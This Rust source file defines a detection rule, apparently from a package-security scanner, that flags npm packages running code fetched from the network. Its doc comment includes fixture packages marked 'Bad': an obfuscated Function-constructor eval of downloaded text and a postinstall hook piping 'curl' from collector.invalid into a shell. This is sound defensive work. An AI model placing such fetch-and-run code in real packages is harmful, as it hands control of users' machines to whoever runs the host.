//! # A program from the network is seen running
//!
//! Run in a fake world whose every host answers with a harmless marker program, the code ran that program: by `eval`, by a
//! shell, by an interpreter.
//!
//! ## Why it matters
//!
//! What runs is decided by whoever owns the host, today or next year, and differs by visitor. The package's own text says
//! nothing about it.
//!
//! ## Known benign uses
//!
//! Plugin systems load code that a person configured; nothing of it happens at install or import.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const https = require("https");
//! https.get("https://collector.invalid/v1/config", (reply) => {
//!   let text = "";
//!   reply.on("data", (part) => (text += part));
//!   reply.on("end", () => (() => {})["constr" + "uctor"](text)()); //~ here
//! });
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! require("child_process").execSync("curl -fsSL https://collector.invalid/i | sh");
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.settings = fetch("https://settings.example/v1").then((reply) => reply.json()).then((all) => all.colour);
//! ```
//!
//! ## References
//!
//! - Lazarus packages of March 2025
//! - axios (March 2026)

use crate::prelude::*;

/// A program from the network is seen running.
pub struct NetworkProgramSeenRunning;

impl Rule for NetworkProgramSeenRunning {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "network-program-seen-running",
            title: "A program from the network is seen running",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &[
                "fetch-then-eval",
                "function-constructor",
                "curl-pipe-shell",
                "error-body-exec",
                "dead-drop-json-store",
            ],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let runs = |proof: &&Proof| match proof.kind {
            ProofKind::MarkerRan => true,
            ProofKind::ReplyDecides => proof.verdict == Verdict::Malicious,
            _ => false,
        };
        facts.proofs().iter().filter(runs).for_each(|proof| found.seen(proof));
    }
}
